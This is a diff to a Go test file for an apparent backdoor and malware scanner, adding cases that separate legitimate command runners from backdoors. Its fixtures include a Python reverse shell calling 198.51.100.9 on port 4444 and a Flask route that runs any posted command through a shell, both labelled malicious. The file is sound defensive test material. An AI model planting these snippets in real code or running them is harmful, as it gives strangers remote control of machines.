@@ -94,6 +94,17 @@ func TestFalsePositiveClasses(t *testing.T) {
 			"import socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.9', 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n" +
 			"    s.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"}, Malicious},
 
+		// Debug consoles, notebook magics and task queues run what their
+		// user types; a backdoor route runs what anyone sends.
+		{"remote-control", "debug console, shell magic and a command task", map[string]string{
+			"p/debug/__init__.py": "" +
+				"from werkzeug.wrappers import Request, Response\nclass DebuggedApplication:\n    def execute_command(self, request, command, frame):\n        return Response(frame.console.eval(command), mimetype='text/html')\n" +
+				"    def __call__(self, environ, start_response):\n        request = Request(environ)\n        cmd = request.args.get('cmd')\n        if cmd is not None and self.check_pin_trust(environ):\n            return self.execute_command(request, cmd, self.frames[0])\n",
+			"p/magics.py": "import subprocess\nfrom IPython.core.magic import register_line_magic\n@register_line_magic\ndef sh(line):\n    return subprocess.check_output(line, shell=True)\n",
+			"p/tasks.py":  "import subprocess\nfrom celery import shared_task\n@shared_task\ndef run_command(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout\n"}, Clean},
+		{"remote-control", "a web route running the command it is sent", map[string]string{"p/server.py": "" +
+			"import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x', methods=['POST'])\ndef x():\n    return subprocess.check_output(request.form['c'], shell=True)\n"}, Malicious},
+
 		// Login helpers tell the service they log in to which machine asks;
 		// a beacon tells a stranger's server who installed it.
 		{"auth", "device name sent to the login service", map[string]string{"p/auth.py": "" +
